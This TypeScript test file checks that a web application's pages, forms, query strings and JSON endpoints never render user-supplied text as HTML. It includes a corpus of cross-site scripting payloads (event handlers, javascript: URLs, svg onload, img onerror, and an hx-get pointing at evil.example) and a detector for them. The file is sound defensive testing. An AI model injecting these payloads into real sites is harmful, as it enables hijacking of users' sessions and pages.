/**
 * Words that would be markup, in every text that is stored or typed, on every page of the table (SE-14, T26): the parsed page has no element,
 * attribute, comment or address of theirs. What a browser does with them is to show them.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { routes } from '../../src/web/routes.ts';
import { catchJobHints } from '../support/given-jobs.ts';
import { OPENAI } from '../support/given-transcription.ts';
import { ring } from '../support/worker-env.ts';
import { addressOf, unlimited } from './every-route.ts';
import { type GivenApp, givenApp } from './given-app.ts';
import { handOnProbes } from './given-doctor.ts';
import { givenHostile } from './given-hostile.ts';

let given: GivenApp;
const begin = () => {
  given = givenApp({ ...OPENAI, PHI_KEYS: `k1:${ring.keys.get('k1')?.toBase64()}` } as never);
  Object.assign(given.env, unlimited());
  catchJobHints();
  handOnProbes();
};
beforeEach(begin);
afterEach(() => vi.restoreAllMocks());

/** Each is about one place in which text may stand: between tags, in either kind of quotes, in none, in a title, a script, an address. */
const CORPUS = [
  '<xssq onxssq=1>"><xssq xssq=1>',
  "' xssq=1 onfocus=xssq() autofocus x='",
  '" xssq=1 onmouseover=xssq() hx-get="//evil.example/xssq',
  'javascript:xssq()//<svg/onload=xssq()>',
  '</title></textarea></script></style></option><xssq xssq=1>',
  '<!--xssq--><img src=x onerror=xssq()>--!><xssq>',
  '&lt;xssq xssq=1&gt;&#60;xssq&#62;\\u003cxssq\\x3e',
  '{{xssq}}<%= xssq %>\u2028\u202e<xssq>',
];
/** The walks are long: two at a time, what begins as an address first. */
const PAIRS = [3, 1, 2, 6].map((first, nth) => `${CORPUS[first]} ${CORPUS[[0, 4, 5, 7][nth] ?? 0]}`);
const ALL = CORPUS.join(' ');

interface Found {
  readonly wrong: string[];
  readonly isShown: boolean;
}
/** By the parser that Cloudflare's own edge uses. */
async function look(html: string): Promise<Found> {
  const wrong: string[] = [];
  const page = new HTMLRewriter().on('*', {
    element({ tagName, attributes }) {
      if (/xssq|^(iframe|object|embed|base|svg:script)$/.test(tagName)) wrong.push(`<${tagName}>`);
      for (const [name = '', value = ''] of attributes) {
        if (/xssq|^on|^srcdoc$|^style$/i.test(name)) wrong.push(`<${tagName} ${name}>`);
        if (
          /^(href|src|action|formaction|hx-[a-z]+|poster|data)$/i.test(name) &&
          /^\s*(javascript|data|vbscript):|^\s*(https?:)?\/\//i.test(value)
        )
          wrong.push(`<${tagName} ${name}=${value}>`);
        if (tagName === 'script' && name === 'src' && !value.startsWith('/static/')) wrong.push(`<script ${value}>`);
      }
    },
    comments({ text }) {
      if (text.includes('xssq')) wrong.push(`<!--${text}-->`);
    },
  });
  await page.transform(new Response(html)).text();
  return { wrong, isShown: html.includes('xssq') };
}

const pages = routes
  .filter(({ method, path }) => method === 'GET' && !path.startsWith('/api/'))
  .map(({ path }) => path as string);
/** Pages that lead elsewhere, or show nothing that anybody wrote. */
const MOST_SHOW = 20;

it('the look at a page sees what it looks for', async () => {
  for (const text of CORPUS.filter((each) => each.includes('<xssq')))
    expect((await look(`<p>${text}</p>`)).wrong).not.toEqual([]);
  expect((await look(`<p title="${CORPUS[2]}">`)).wrong.length).toBeGreaterThan(1);
  expect((await look(`<p title='${CORPUS[1]}'>`)).wrong.length).toBeGreaterThan(1);
  expect((await look(`<a href="${CORPUS[3]}">`)).wrong).not.toEqual([]);
});

describe('stored, and shown on every page (SE-14, T26)', { timeout: 60_000 }, () => {
  it.each(PAIRS)('%j', async (text) => {
    const ids = await givenHostile(given, text);
    begin();
    const shown: string[] = [];
    for (const path of pages) {
      for (const address of [
        addressOf(path, ids),
        ...(path === '/dashboard/audit' ? [`${path}?action=access.denied`] : []),
      ]) {
        const response = await given.request(address);
        const type = response.headers.get('Content-Type');
        const { wrong, isShown } = await look(await response.text());
        expect([path, wrong]).toEqual([path, []]);
        if (isShown) shown.push(path);
        if (response.status === 200) expect(type).toMatch(/^text\/html/);
      }
    }
    // What nobody shows would prove nothing.
    expect(shown.length).toBeGreaterThan(MOST_SHOW);
    expect(shown).toEqual(
      expect.arrayContaining([
        ...['/dashboard/calls/:call_id', '/dashboard/patients/:patient_id', '/dashboard/patients/:patient_id/edit'],
        ...['/dashboard/campaigns', '/dashboard/campaigns/:campaign_id', '/dashboard/suppressions', '/dashboard/audit'],
        ...['/dashboard/transcriptions', '/dashboard/settings/staff', '/dashboard/questionnaires/:questionnaire_id'],
      ]),
    );
  });
});

describe('typed into every form, and given back (SE-14)', { timeout: 60_000 }, () => {
  const FIELDS = [
    ...[
      'phone_number',
      'first_name',
      'last_name',
      'date_of_birth',
      'external_id',
      'language',
      'state',
      'time_zone',
      'name',
    ],
    ...[
      'evidence',
      'obtained_by',
      'obtained_at',
      'basis',
      'reason',
      'confirmation',
      'definition',
      'do',
      'email',
      'addendum',
    ],
    ...[
      'verdict',
      'note_version',
      'preflight_id',
      'family_name',
      'last_four',
      'inputs',
      'said',
      'keys',
      'value',
      'query',
    ],
    ...[
      'consent_basis',
      'consent_obtained_by',
      'consent_obtained_at',
      'consent_evidence',
      'questionnaire',
      'purpose',
      'item',
    ],
  ];
  const posts = routes.filter(({ method, path }) => method === 'POST' && !path.startsWith('/api/'));

  it.each([PAIRS[0] ?? '', ALL])('%j', async (text) => {
    const ids = await givenHostile(given, text);
    begin();
    const body = new URLSearchParams(FIELDS.map((name) => [name, text])).toString();
    for (const { path } of posts)
      for (const asked of [{}, { 'HX-Request': 'true' }]) {
        const headers = { 'Content-Type': 'application/x-www-form-urlencoded', ...asked };
        const response = await given.request(addressOf(path, ids), { method: 'POST', body, headers });
        const { wrong } = await look(await response.text());
        expect([path, wrong, /xssq/.test(response.headers.get('Location') ?? '')]).toEqual([path, [], false]);
      }
  });

  it.each([PAIRS[0] ?? '', ALL])('%j in the query of every page', async (text) => {
    for (const path of pages) {
      const query = new URLSearchParams(
        ['q', 'status', 'cursor', 'role', 'from', 'to', 'action', 'resource'].map((name) => [name, text]),
      );
      const response = await given.request(`${addressOf(path)}?${query}`);
      expect([path, (await look(await response.text())).wrong]).toEqual([path, []]);
    }
  });
});

describe('as JSON and as files', () => {
  it('is never of a type that a browser would read as a page, whatever it says (SE-22, SE-24)', async () => {
    const ids = await givenHostile(given, CORPUS[0] ?? '');
    begin();
    for (const { path } of routes.filter(
      ({ method, path }) => method === 'GET' && path.startsWith('/api/') && path !== '/api/docs',
    )) {
      const response = await given.request(addressOf(path, ids), { headers: { Accept: 'text/html' } });
      const type = response.headers.get('Content-Type') ?? '';
      expect([path, /html|xml|svg/.test(type), response.headers.get('X-Content-Type-Options')]).toEqual([
        path,
        false,
        'nosniff',
      ]);
      await response.body?.cancel();
    }
  });
});
